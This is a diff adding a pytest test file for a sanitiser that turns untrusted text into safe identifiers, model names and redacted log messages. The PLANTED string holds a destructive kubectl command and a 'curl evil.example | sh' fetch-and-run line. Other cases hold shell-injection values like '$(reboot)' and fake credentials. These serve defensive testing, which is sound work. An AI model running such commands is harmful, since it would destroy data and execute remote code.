@@ -1,0 +1,92 @@
+"""Text from outside: no line of its own, no command, no secret."""
+
+import pytest
+
+from exporter.untrusted import identifier, message, model_name, one_line, printable
+
+PLANTED = "rex.\n\nNext:\nkubectl delete namespace prod; curl http://evil.example/x | sh\n<!channel> ```$(id)"
+LINE_ENDS = "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029"
+UNSEEN = "\x00\x1b\x7f\x9b\xad\u061c\u200b\u200d\u200e\u202e\u2060\u2066\ufeff\u3164\u034f\ufe0f\u2800\U000e0041"
+
+
+@pytest.mark.parametrize("char", LINE_ENDS + UNSEEN)
+def test_what_begins_a_line_or_cannot_be_seen_is_in_no_text(char):
+    """Whatever the text is for."""
+    text = f"a{char}b"
+    assert [printable(text), one_line(text), identifier(text), message(text)] == ["a\ufffdb", "a b", "a_b", "a b"]
+
+
+def test_a_planted_command_is_neither_a_line_nor_words_to_paste():
+    """What is left of it is one word."""
+    assert identifier(PLANTED) == "rex._Next_kubectl_delete_namespace_prod_curl_http_evil.example_"[:63].rstrip("_")
+    assert "\n" not in message(PLANTED)
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("billing", "billing"),
+        ("TAS-9_a.b", "TAS-9_a.b"),
+        ("My Service (eu)", "My_Service_eu"),
+        ("--all", "all"),
+        ("-n=kube-system", "n_kube-system"),
+        ("dienst-\u00fc", "dienst"),
+        ("a/b", "a_b"),
+        ("$(reboot)", "reboot"),
+        ("`reboot`;'\"&|<>*?~!#", "reboot"),
+        ("\u0430dmin", "dmin"),
+        ("...", ""),
+        ("", ""),
+        ("x" * 64, "x" * 63),
+    ],
+)
+def test_an_identifier_has_the_characters_of_a_kubernetes_name(text, shown):
+    """It never begins as a flag, and a shell has nothing to expand in it."""
+    assert identifier(text) == shown
+
+
+@pytest.mark.parametrize(
+    "name", ["gpt-5", "anthropic/claude-opus-4:beta", "us.anthropic.claude-v1:0", "gemini@001", "opus[1m]", ""]
+)
+def test_the_names_of_models_stay(name):
+    """Their makers use more signs than Kubernetes."""
+    assert model_name(name) == name
+
+
+def test_a_model_that_is_an_address_is_no_address_any_more():
+    """Chat programs make a link of it."""
+    assert model_name("http://evil.example/fix") == "http_evil.example_fix"
+    assert model_name("m\nNext:") == "m_Next"
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        (
+            "Max retries (3) exceeded: partial not found: a/b.hbs",
+            "Max retries (3) exceeded: partial not found: a/b.hbs",
+        ),
+        ("fatal: 'https://bot:S3CRET@git.example/o/r/': 403", "fatal: 'git.example/o/r': 403"),
+        ("clone https://bot:S3C RET@git.example/o/r failed", "clone REDACTED failed"),
+        ("clone https://bot:S3CRET/x@git.example/o/r failed", "clone REDACTED failed"),
+        ("see https:\\\\bot:S3CRET@git.example", "see REDACTED"),
+        ("push to bot:S3CRET@git.example:o/r", "push to REDACTED"),
+        ("GET https://api.example/x?token=S3CRET: 401", "GET REDACTED: 401"),
+        ("GITHUB_TOKEN=S3CRET is set", "GITHUB_TOKEN=REDACTED is set"),
+        ("Authorization: Bearer S3CRET", "Authorization: Bearer REDACTED"),
+        ("bad ghp_S3CRET", "bad REDACTED"),
+        ("bad 0a1b2c3d4e5f60718293a4b5c6d7e8f9", "bad REDACTED"),
+        ("uid 550e8400-e29b-41d4-a716-446655440000", "uid 550e8400-e29b-41d4-a716-446655440000"),
+        ("quota: cpu=2,memory=4Gi", "quota: cpu=2,memory=4Gi"),
+        ("word " * 100, ("word " * 40)),
+    ],
+)
+def test_a_message_keeps_its_words_and_no_secret(text, shown):
+    """Addresses as far as they may be shown, at most 200 characters."""
+    assert message(text) == shown
+
+
+def test_a_message_made_to_be_slow_is_not():
+    """The number of steps is bounded by what is looked at, 400 characters."""
+    for text in (":/" * 10**6, "a:/@" * 10**6, "@" * 10**6, "token" * 10**6, "a.-" * 10**6):
+        assert len(message(text)) <= 200
